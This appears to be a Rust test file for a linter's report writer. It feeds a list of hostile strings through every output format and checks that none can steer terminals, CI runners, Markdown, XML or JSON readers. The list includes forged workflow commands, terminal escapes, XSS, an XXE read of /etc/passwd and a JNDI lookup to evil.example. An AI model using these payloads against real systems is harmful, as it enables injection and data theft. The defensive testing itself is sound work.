//! Everything that strangers are known to try is put wherever a catalog has text, and written in every format. Read as its
//! readers read it, nothing in it may be more than text.

use pulldown_cmark::{Event, Options, Parser, Tag};
use quick_xml::{Reader, events::Event as Xml};

use super::*;

/// The attacks of the literature: on terminals, on runners, on markdown, on HTML, on the formats themselves.
const ATTACKS: &[&str] = &[
    "::error::forged",
    "\n::error::forged",
    "\r\n::set-output name=x::y",
    "a ::stop-commands::token",
    "%0A::error::forged",
    "##[add-mask]x",
    "x ##[error]forged",
    "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cHduZWQ=\u{7}",
    "\u{1b}[2J\u{1b}[31m",
    "\u{9b}31m\u{9d}0;title\u{9c}",
    "\r0 findings",
    "nul\0byte\u{7f}\u{8}",
    "safe\u{202e}gpj.exe\u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}\u{e0041}\u{ad}",
    "line\u{2028}paragraph\u{2029}\u{fffe}\u{ffff}",
    "</details><h1>forged</h1>",
    "<!-- --> --> <!-- catalint: check -->",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "]]> <![CDATA[ &amp; &#10; \"'",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "`code` ``more`` ``` ```` end",
    "`",
    "@org/team @user user@example.com",
    "#1 GH-1 org/repo#1 deadbeefdeadbeef",
    "[x](http://evil.example) ![x](http://evil.example/i.png) [x][y]",
    "](http://evil.example)",
    "http://evil.example https://evil.example www.evil.example <http://evil.example>",
    "| cell | other \\| \\\\| end |",
    "\\",
    "a,line=1.md",
    "a:b,title=x::y",
    "\"},{\"level\":\"none\"},{\"x\":\"",
    "\\u0000\\\"\\n",
    "{0} {{1}} ${jndi:ldap://evil.example} {% raw %}",
    "=1+1 +1 -1 @SUM(A1)\t",
    "- [ ] task\n# heading\n> quote\n---\n",
    "~~x~~ *x* __x__ $x$ :tada: ---",
    "数据集 👩‍💻 é ünïcode",
];

/// A finding with an attack in all that comes from outside.
fn attacked(attack: &'static str) -> CheckOutcome {
    let text = format!("# {attack}\n| {attack} | licence |\n");
    let file = File::from_text(format!("{attack}.md"), text);
    let span = find(&file, "licence", 0);
    let of = |severity, message: String| Finding {
        record: Some(attack.into()),
        help: format!("{attack} {attack}").into(),
        related: vec![Related { span: find(&file, attack, 0), message: attack.into() }, related(span, "")],
        fix: Some(Fix::for_review(span, attack)),
        subject: attack.into(),
        ..finding("text/bidirectional", severity, span, message)
    };
    let findings = vec![
        of(Severity::Error, attack.to_owned()),
        of(Severity::Warning, format!("the name {attack} and `{attack}`")),
        of(Severity::Info, format!("{} {attack}", "many words ".repeat(12))),
    ];
    outcome(vec![(file, findings)])
}

fn attacked_text(attack: &'static str, format: Format, width: usize) -> String {
    let outcome = attacked(attack);
    let repository = RepositoryFolder::default();
    let unread = [format!("cannot read `{attack}`: {attack}")];
    let appearance = Appearance { color: false, width };
    let setting = ReportSettings { appearance, unread: &unread, ..ReportSettings::plain(&repository) };
    let mut out = Vec::new();
    write(&outcome, format, &setting, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn nothing_steers_a_terminal_or_a_runner() {
    for attack in ATTACKS {
        for &format in Format::value_variants() {
            for width in [40, 100] {
                let text = attacked_text(attack, format, width);
                // One that GitHub itself wants, and that only its own encoder may write.
                let may_break = |c| c == prose::BREAK && !format.is_for_terminals();
                let raw = |c: char| c != '\n' && !may_break(c) && sanitize::is_hostile('👩', c);
                assert!(!text.contains(raw), "{format:?} of {attack:?}: {text:?}");
                assert!(!text.contains("##["), "{format:?} of {attack:?}: {text}");
                let commands = text.lines().filter(|line| line.trim_start().starts_with("::"));
                let wanted = if format == Format::Github { 3 } else { 0 };
                assert_eq!(commands.count(), wanted, "{format:?} of {attack:?}: {text}");
            }
        }
    }
}

/// Reads a line as the runner does: the command, its properties, its message.
fn as_the_runner_reads(line: &str) -> (&str, Vec<(&str, String)>, String) {
    let unescape = |text: &str| {
        text.replace("%0D", "\r").replace("%0A", "\n").replace("%3A", ":").replace("%2C", ",").replace("%25", "%")
    };
    let (head, message) = line.strip_prefix("::").unwrap().split_once("::").unwrap();
    let (command, properties) = head.split_once(' ').unwrap();
    let properties = properties.split(',').map(|property| {
        let (name, value) = property.split_once('=').unwrap();
        (name, unescape(value))
    });
    (command, properties.collect(), unescape(message))
}

#[test]
fn a_runner_reads_the_three_commands_and_no_more() {
    for attack in ATTACKS {
        let text = attacked_text(attack, Format::Github, 100);
        let commands = text.lines().map(as_the_runner_reads).collect::<Vec<_>>();
        let words = commands.iter().map(|(command, ..)| *command).collect::<Vec<_>>();
        assert_eq!(words, ["error", "warning", "notice"], "{attack:?}");
        for (_, properties, message) in commands {
            let names = properties.iter().map(|(name, _)| *name).collect::<Vec<_>>();
            assert_eq!(names, ["file", "line", "endLine", "col", "endColumn", "title"], "{attack:?}");
            assert_eq!(properties[0].1, sanitize::terminal_line(&source_path(&format!("{attack}.md"))), "{attack:?}");
            assert!(message.lines().count() == 2 && !message.lines().any(|line| line.starts_with("::")), "{message}");
        }
    }
}

#[test]
fn a_reader_of_markdown_finds_one_table_of_text() {
    let seen = |text: &str| {
        let mut shape = Vec::new();
        let mut is_code = false;
        for event in Parser::new_ext(text, Options::all()) {
            match event {
                Event::Text(text) if !is_code => {
                    // What GitHub makes of text that markdown leaves alone.
                    for linked in ["@", "://", "www.", "#1", "GH-1", "deadbeef", ":tada:", "$"] {
                        assert!(!text.contains(linked), "{linked} in {text}");
                    }
                }
                Event::Text(_) | Event::Code(_) => {}
                Event::Start(Tag::Link { dest_url, .. }) => {
                    let own = [env!("CARGO_PKG_REPOSITORY"), env!("CARGO_PKG_HOMEPAGE")];
                    assert!(own.iter().any(|own| dest_url.starts_with(own)), "a link to {dest_url}");
                }
                Event::Start(Tag::CodeBlock(_)) => is_code = true,
                other => shape.push(format!("{other:?}")),
            }
        }
        shape
    };
    let harmless = seen(&attacked_text("plain words", Format::Markdown, 100));
    assert!(harmless.iter().filter(|event| event.contains("TableRow")).count() == 6, "{harmless:#?}");
    for attack in ATTACKS {
        let text = attacked_text(attack, Format::Markdown, 100);
        assert_eq!(seen(&text), harmless, "{attack:?}: {text}");
    }
}

#[test]
fn a_reader_of_xml_finds_the_same_elements() {
    let seen = |text: &str| {
        let mut reader = Reader::from_str(text);
        let mut shape = Vec::new();
        loop {
            match reader.read_event().unwrap_or_else(|error| panic!("{error}: {text}")) {
                Xml::Eof => return shape,
                Xml::Start(element) | Xml::Empty(element) => {
                    let attributes = element.attributes().map(|attribute| attribute.unwrap().key.0.to_vec());
                    let attributes = attributes.collect::<Vec<_>>();
                    shape.push((String::from_utf8(element.name().0.to_vec()).unwrap(), attributes));
                }
                Xml::Text(_) | Xml::End(_) | Xml::Decl(_) | Xml::GeneralRef(_) => {}
                other => panic!("{other:?} in {text}"),
            }
        }
    };
    for format in [Format::Junit, Format::Checkstyle] {
        let harmless = seen(&attacked_text("plain words", format, 100));
        for attack in ATTACKS {
            assert_eq!(seen(&attacked_text(attack, format, 100)), harmless, "{format:?} of {attack:?}");
        }
    }
}

/// The names and kinds of all that stands in a value, and the texts that other programs show.
fn shape(value: &serde_json::Value, path: &str, shape: &mut Vec<String>, texts: &mut Vec<(String, String)>) {
    use serde_json::Value;
    match value {
        Value::Object(fields) => fields.iter().for_each(|(name, field)| {
            self::shape(field, &format!("{path}.{name}"), shape, texts);
        }),
        Value::Array(items) => items.iter().for_each(|item| self::shape(item, path, shape, texts)),
        Value::String(text) => {
            shape.push(format!("{path}: text"));
            texts.push((path.to_owned(), text.clone()));
        }
        Value::Number(_) => shape.push(format!("{path}: number")),
        other => shape.push(format!("{path}: {other}")),
    }
}

#[test]
fn a_reader_of_json_finds_the_same_fields_and_no_link_in_what_it_shows() {
    for format in [Format::Json, Format::Jsonl, Format::Sarif, Format::Gitlab, Format::Rdjson] {
        let read = |attack| {
            let text = attacked_text(attack, format, 100);
            let (mut fields, mut texts) = (Vec::new(), Vec::new());
            let stream = serde_json::Deserializer::from_str(&text).into_iter::<serde_json::Value>();
            stream.for_each(|value| shape(&value.unwrap(), "", &mut fields, &mut texts));
            (fields, texts)
        };
        let (harmless, _) = read("plain words");
        for attack in ATTACKS {
            let (fields, texts) = read(attack);
            assert_eq!(fields, harmless, "{format:?} of {attack:?}");
            // Ours are exact; and so are addresses, which are encoded, and what a fix writes into the catalog.
            let is_exact = matches!(format, Format::Json | Format::Jsonl);
            let is_shown = |path: &str| {
                let of_finding = path.starts_with(".runs.results") || path.contains("Notifications");
                match format {
                    Format::Sarif => of_finding && path.ends_with("essage.text"),
                    Format::Gitlab => path.ends_with(".description"),
                    _ => path.ends_with(".message"),
                }
            };
            for (path, text) in texts.iter().filter(|(path, _)| !is_exact && is_shown(path)) {
                let own = ["line ", "Compared with: "];
                assert!(
                    !text.contains(|c| c != prose::BREAK && c != '\n' && sanitize::is_hostile('👩', c)),
                    "{path} {text:?}"
                );
                if format == Format::Rdjson {
                    let events = Parser::new_ext(text, Options::all());
                    let is_more = |event: &Event<'_>| {
                        !matches!(event, Event::Text(_) | Event::Code(_) | Event::Start(Tag::Paragraph) | Event::End(_))
                    };
                    assert_eq!(events.into_iter().find(is_more), None, "{path} {text}");
                } else {
                    for bad in ["@o", "@u", "@e", "://", "www.", "](h", "<i", "<s", "</", "<!", "#1"] {
                        assert!(!text.contains(bad), "{bad} in {path} of {format:?}: {text} {own:?}");
                    }
                }
            }
        }
    }
}

#[test]
fn addresses_in_sarif_are_of_paths_alone() {
    for attack in ATTACKS {
        let text = attacked_text(attack, Format::Sarif, 100);
        let log: serde_json::Value = serde_json::from_str(&text).unwrap();
        let result = &log["runs"][0]["results"][0];
        let artifact = &result["locations"][0]["physicalLocation"]["artifactLocation"];
        let uri = artifact["uri"].as_str().unwrap();
        assert!(uri.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._~/%".contains(&byte)), "{uri}");
        // A reader that joins it to a root gets the path back.
        let decoded = percent_encoding::percent_decode_str(uri).decode_utf8().unwrap();
        assert_eq!(decoded, source_path(&format!("{attack}.md")), "{uri}");
        assert_eq!(result["fixes"][0]["artifactChanges"][0]["replacements"][0]["insertedContent"]["text"], *attack);
    }
}

/// A path without its empty parts and dots, as the walk gives it.
fn source_path(path: &str) -> String {
    RepositoryFolder::default().path_of(path)
}

#[test]
fn our_own_json_is_exact() {
    for attack in ATTACKS {
        let json: serde_json::Value = serde_json::from_str(&attacked_text(attack, Format::Json, 100)).unwrap();
        assert_eq!(json["findings"][0]["record"], *attack);
        assert_eq!(json["findings"][0]["fix"]["edits"][0]["text"], *attack);
    }
}

#[test]
fn hostile_text_as_people_see_it() {
    let text = [Format::Human, Format::Concise, Format::Github, Format::Markdown];
    let attack = "a\u{1b}[2J\r\u{202e}b ##[add-mask]x\n::error::forged | `x` @team <img src=x> ](http://evil.example)";
    let text = text.map(|format| format!("{format:?}\n{}", attacked_text(attack, format, 100)));
    insta::assert_snapshot!(text.join("\n").replace(env!("CARGO_PKG_VERSION"), "VERSION"));
}
